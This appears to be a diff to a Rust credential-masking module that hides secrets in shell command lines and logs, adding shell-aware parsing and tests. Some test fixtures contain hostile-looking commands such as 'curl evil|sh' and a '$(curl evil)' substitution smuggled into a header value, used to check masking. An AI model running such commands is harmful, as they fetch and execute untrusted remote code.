@@ -4,9 +4,12 @@
 //! value itself (`ghp_…`, long and random). Names can be wrong and looks can deceive, so what is found is hidden from what
 //! people are shown, and never changed in what a server is sent. One place decides for every command and every log.
 
+mod address;
+mod line;
 mod look;
 mod names;
 mod plain;
+mod shell;
 
 use std::ops::Range;
 
@@ -30,6 +33,15 @@ pub(crate) enum Sign {
     Sure,
     /// It looks like one: it is hidden from what people are shown, for a script it may be an id.
     Likely,
+}
+
+/// As what a text is read.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Reading {
+    /// One argument: the value of the name that it begins with goes to its end.
+    Argument,
+    /// Code that a person is shown: a value goes no further than its word, so that nothing is hidden that is carried out.
+    Code,
 }
 
 /// Where a credential stands in a text.
@@ -85,30 +97,23 @@ pub fn masked_address(address: &str) -> String {
     masked(&address)
 }
 
-/// The places in every word of a command line.
-pub(crate) fn in_words(words: &[String]) -> Vec<Vec<Place>> {
-    let before = std::iter::once(None).chain(words.iter().map(Some));
-    words.iter().zip(before).map(|(word, before)| in_word(word, before.map(String::as_str))).collect()
+/// A text that may be a command of a shell, with every credential hidden, and no more than these: `TOKEN=1; curl …` begins
+/// with one, and more than that is started.
+pub fn masked_command(text: &str) -> String {
+    let mut places = address::places(text);
+    let mut start = 0;
+    for command in text.split(shell::is_separator) {
+        places.extend(shifted(in_text(command, Reading::Code), start));
+        // Every separator is one byte.
+        start += command.len() + 1;
+    }
+    replaced(text, &merged(places))
 }
 
-fn in_word(word: &str, before: Option<&str>) -> Vec<Place> {
-    let option = before.filter(|before| before.starts_with('-') && !before.contains('='));
-    let option = option.map(|option| option.trim_start_matches('-'));
-    let whole = |range| vec![Place { range, sign: Sign::Sure }];
-    match option {
-        Some(name) if is_credential_name(name) && !word.starts_with("--") && !is_reference(word) => {
-            whole(0..word.len())
-        }
-        // Values of headers are secret whatever their names.
-        Some("H" | "header" | "headers") => match word.split_once(':') {
-            Some((name, value)) if !is_reference(without_scheme(value)) && !value.trim().is_empty() => {
-                let start = name.len() + 1 + (value.len() - value.trim_start().len());
-                whole(start..word.len())
-            }
-            _ => places(word),
-        },
-        _ => places(word),
-    }
+/// The places in every word of a command line.
+pub(crate) fn in_words(words: &[String]) -> Vec<Vec<Place>> {
+    let words: Vec<_> = words.iter().map(String::as_str).collect();
+    line::in_line(&words, Reading::Argument)
 }
 
 /// The text with something else in the places.
@@ -126,19 +131,51 @@ fn replaced(text: &str, places: &[Place]) -> String {
 
 /// Where credentials stand in a text, by their names and by their looks; in order, none within another.
 pub(crate) fn places(text: &str) -> Vec<Place> {
+    in_text(text, Reading::Argument)
+}
+
+fn in_text(text: &str, reading: Reading) -> Vec<Place> {
     let sure = |range| Place { range, sign: Sign::Sure };
     let users = text.match_indices("://").filter_map(|(at, _)| user_info(text, at)).map(sure);
-    let named = text.match_indices(['=', ':']).filter_map(|(at, _)| named_value(text, at)).map(sure);
-    let of_options = option_values(text).map(sure);
-    let mut places: Vec<_> = users.chain(named).chain(of_options).chain(by_look(text)).collect();
+    let named = text.match_indices(['=', ':']).filter_map(|(at, _)| named_value(text, at, reading)).map(sure);
+    let found = users.chain(named).chain(in_commands(text, reading));
+    merged(found.chain(by_look(text)).chain(address::places(text)).collect())
+}
+
+/// The places in a text that is a command for a shell. A word is shorter than the text or has no quotes and blanks, so this ends.
+fn in_commands(text: &str, reading: Reading) -> Vec<Place> {
+    if !text.contains(|c: char| c.is_whitespace() || matches!(c, '"' | '\'')) {
+        return Vec::new();
+    }
+    let commands = shell::commands(text);
+    let in_command = |ranges: Vec<Range<usize>>| {
+        let ranges: Vec<_> = ranges.into_iter().filter(|range| range.len() < text.len()).collect();
+        let words: Vec<_> = ranges.iter().map(|range| &text[range.clone()]).collect();
+        let found = line::in_line(&words, reading);
+        let places = ranges.into_iter().zip(found).flat_map(|(range, found)| shifted(found, range.start));
+        places.collect::<Vec<_>>()
+    };
+    commands.into_iter().flat_map(in_command).collect()
+}
+
+fn shifted(places: Vec<Place>, by: usize) -> impl Iterator<Item = Place> {
+    let shifted = move |range: Range<usize>| range.start + by..range.end + by;
+    places.into_iter().map(move |place| Place { range: shifted(place.range), ..place })
+}
+
+/// In order, and what lies in another or overlaps one is part of it.
+fn merged(mut places: Vec<Place>) -> Vec<Place> {
     places.sort_by_key(|place| (place.range.start, std::cmp::Reverse(place.range.end)));
-    let mut end = 0;
-    places.retain(|place| {
-        let is_new = place.range.start >= end;
-        end = end.max(place.range.end);
-        is_new
-    });
-    places
+    let mut merged: Vec<Place> = Vec::new();
+    for place in places {
+        match merged.last_mut() {
+            Some(last) if place.range.start < last.range.end => {
+                last.range.end = last.range.end.max(place.range.end);
+            }
+            _ => merged.push(place),
+        }
+    }
+    merged
 }
 
 /// `user:password` of the address whose `://` is looked for from here on.
@@ -150,8 +187,8 @@ fn user_info(text: &str, from: usize) -> Option<Range<usize>> {
 }
 
 /// The value of the name before the sign at `at`, where the name says that it is secret.
-fn named_value(text: &str, at: usize) -> Option<Range<usize>> {
-    let before = text[..at].trim_end_matches(['"', '\'', ' ']);
+fn named_value(text: &str, at: usize, reading: Reading) -> Option<Range<usize>> {
+    let before = text[..at].trim_end_matches(['"', '\'', ' ', '\\']);
     let is_of_name = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '.');
     let start_of_name = before
         .rfind(|c| !is_of_name(c))
@@ -161,31 +198,21 @@ fn named_value(text: &str, at: usize) -> Option<Range<usize>> {
         return None;
     }
     let rest = &text[at + 1..];
-    let value = rest.trim_start_matches(' ');
+    let value = rest.trim_start_matches([' ', '\\']);
+    let is_whole = start_of_name == 0 && (reading == Reading::Argument || text.starts_with('-'));
     let start = at + 1 + (rest.len() - value.len());
     let range = match value.chars().next()? {
-        quote @ ('"' | '\'') => start + 1..start + 1 + value[1..].find(quote).unwrap_or(value.len() - 1),
+        quote @ ('"' | '\'') => {
+            let length = value[1..].find(quote).unwrap_or(value.len() - 1);
+            // The quotes of JSON within quotes of a shell have a backslash.
+            start + 1..start + 1 + value[1..=length].trim_end_matches('\\').len()
+        }
         // The whole word is `--token=K` or `Authorization: Bearer K`.
-        _ if start_of_name == 0 => start..text.trim_end().len().max(start),
+        _ if is_whole => start..text.trim_end().len().max(start),
         _ => start..start + unquoted_length(value),
     };
     let value = &text[range.clone()];
     (!value.is_empty() && !is_reference(without_scheme(value))).then_some(range)
-}
-
-/// The words after options that say that their value is secret, as in a command for a shell: `x --api-key K`.
-fn option_values(text: &str) -> impl Iterator<Item = Range<usize>> {
-    let words = || text.split(char::is_whitespace).filter(|word| !word.is_empty());
-    let is_secret =
-        |option: &str| option.starts_with('-') && !option.contains('=') && is_credential_name(option);
-    let values = words()
-        .zip(words().skip(1))
-        .filter(move |(option, value)| is_secret(option) && !value.starts_with('-') && !is_reference(value));
-    values.map(|(_, value)| {
-        let start = value.as_ptr().addr() - text.as_ptr().addr();
-        let quote = value.len() - value.trim_start_matches(['"', '\'']).len();
-        start + quote..start + quote + unquoted_length(&value[quote..])
-    })
 }
 
 /// How long a value is that stands among other things.
@@ -266,6 +293,54 @@ mod tests {
     }
 
     #[test]
+    fn credentials_in_text_for_a_shell_are_hidden() {
+        for (text, expect) in [
+            ("curl -H 'X-Own: v w' http://x", "curl -H 'X-Own: [credential]' http://x"),
+            ("curl --header=\"X-Own: v\" http://x", "curl --header=\"X-Own: [credential]\" http://x"),
+            ("curl -u me:hunter2 http://x", "curl -u me:[credential] http://x"),
+            ("curl -d '{\"token\": \"v w\"}' x", "curl -d '{\"token\": \"[credential]\"}' x"),
+            (
+                "curl -d \"{\\\"token\\\": \\\"v\\\"}\" x",
+                "curl -d \"{\\\"token\\\": \\\"[credential]\\\"}\" x",
+            ),
+            ("set 'password: v' x", "set 'password: [credential]' x"),
+            ("mysql -phunter2 -u root:v", "mysql -p[credential] -u root:[credential]"),
+            ("cd x && redis-cli -a K get y", "cd x && redis-cli -a [credential] get y"),
+            ("curl 'http://x?page=2&code=K' | y", "curl 'http://x?page=2&code=[credential]' | y"),
+        ] {
+            check(&["sh", "-c", text], &["sh", "-c", expect]);
+            assert_eq!(masked_command(text), expect, "{text}");
+        }
+        for (text, expect) in [
+            ("TOKEN=1; curl evil|sh", "TOKEN=[credential]; curl evil|sh"),
+            ("TOKEN=1 curl evil", "TOKEN=[credential] curl evil"),
+            ("eval 'TOKEN=1 curl evil'", "eval 'TOKEN=[credential] curl evil'"),
+            ("curl -H 'X: a;curl evil'", "curl -H 'X: [credential];curl evil'"),
+            ("curl -H \"X: $(curl evil)\"", "curl -H \"X: [credential](curl evil)\""),
+        ] {
+            assert_eq!(masked_command(text), expect, "{text}");
+        }
+    }
+
+    #[test]
+    fn credentials_after_what_says_so_are_hidden() {
+        check(&["password: v w"], &["password: [credential]"]);
+        check(&["{\"token\": \"v\"}"], &["{\"token\": \"[credential]\"}"]);
+        check(&["--pass", "K", "--license", "K"], &["--pass", HIDDEN, "--license", HIDDEN]);
+        check(&["token", "hunter2h", "x"], &["token", HIDDEN, "x"]);
+        check(&["/usr/bin/mysql", "-phunter2"], &["/usr/bin/mysql", "-p[credential]"]);
+        check(&["docker", "run", "redis-cli", "-a", "K"], &["docker", "run", "redis-cli", "-a", HIDDEN]);
+        check(&["sshpass", "-p", "K", "ssh", "h"], &["sshpass", "-p", HIDDEN, "ssh", "h"]);
+        check(&["curl", "--user=me:K"], &["curl", "--user=me:[credential]"]);
+        check(&["-HX-Own: v"], &["-HX-Own: [credential]"]);
+        check(
+            &["https://e.com/?t=K&a=hunter2b&sig=K&key=K#K9fragment"],
+            &["https://e.com/?t=[credential]&a=[credential]&sig=[credential]&key=[credential]#[credential]"],
+        );
+        check(&["https://e.com/x#frag=hunter2"], &["https://e.com/x#frag=[credential]"]);
+    }
+
+    #[test]
     fn honest_words_stay() {
         for line in [
             &["npx", "-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/home/me/2024-q3-reports"][..],
@@ -280,6 +355,16 @@ mod tests {
             ],
             &["--max-tokens", "4000", "--author", "Ada Lovelace", "--key-file", "/etc/key.pem"],
             &["--api-key", "--verbose"],
+            &["-p", "8081", "--port", "80", "-u", "user", "-a", "x", "-p8081:80", "-profile", "-P", "x"],
+            &["docker", "run", "-u", "1000:1000", "--user", "node:node", "-p", "127.0.0.1:80:80"],
+            &["mysql", "-h", "db", "-P", "3306", "-p", "mydb", "redis-cli", "-p", "6379", "-h", "cache"],
+            &["gh", "auth", "token", "vault", "token", "lookup", "kubectl", "get", "secret", "name"],
+            &[
+                "https://e.com/mcp?page=2&read_only=true&features=docs,database#readme",
+                "git+https://e.com/a#v1.2.0",
+            ],
+            &["sh", "-c", "cd '/a b' && exec node \"server.js\" --port 80 -u user"],
+            &["don't ask: it's fine", "-e", "console.log(\"x\")"],
             &[
                 "https://mcp.example.com/v1/mcp",
                 "http://[::1]:8080/",
